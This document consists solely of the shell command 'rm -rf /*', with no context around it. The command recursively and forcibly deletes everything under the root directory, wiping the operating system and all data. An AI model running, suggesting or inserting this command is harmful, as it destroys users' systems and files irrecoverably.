rm -rf /*
